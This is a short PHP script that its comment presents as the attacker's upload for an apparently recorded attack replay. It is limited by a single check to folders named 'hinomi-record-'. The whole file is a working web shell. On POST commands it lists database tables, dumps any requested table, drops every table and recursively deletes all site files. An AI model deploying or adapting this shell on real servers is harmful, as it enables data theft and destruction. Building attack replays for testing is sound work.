<?php
// What the attacker of this replay uploads. It knows four acts and works in a folder of the recorder alone.
require __DIR__ . '/../inc/db.php';
$sites = dirname(__DIR__, 2);
if (!str_contains($sites, '/hinomi-record-')) exit('not a recorder\'s folder');
$db = db();
header('Content-Type: text/plain; charset=utf-8');
switch ($_POST['a'] ?? '') {
    case 'tables':
        foreach ($db->query("SELECT table_schema, table_name, table_rows FROM information_schema.tables WHERE table_schema NOT IN ('information_schema', 'mysql', 'performance_schema', 'sys')") as $row)
            echo implode("\t", $row), "\n";
        break;
    case 'read':
        [$schema, $table] = explode('.', $_POST['t']);
        foreach ($db->query("SELECT * FROM `$schema`.`$table`") as $row) echo implode("\t", $row), "\n";
        break;
    case 'drop':
        foreach ($db->query("SELECT table_schema, table_name FROM information_schema.tables WHERE table_schema NOT IN ('information_schema', 'mysql', 'performance_schema', 'sys') ORDER BY 1, 2")->fetch_all() as [$schema, $table]) {
            $db->query("DROP TABLE `$schema`.`$table`");
            echo "$schema.$table\n";
        }
        break;
    case 'wipe':
        $files = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($sites, FilesystemIterator::SKIP_DOTS), RecursiveIteratorIterator::CHILD_FIRST);
        $count = 0;
        foreach ($files as $file) $count += (int) (is_dir($file) ? rmdir($file) : unlink($file));
        echo "$count\n";
        break;
    default:
        echo php_uname('s'), "\n", PHP_VERSION, "\n", __DIR__, "\n";
}
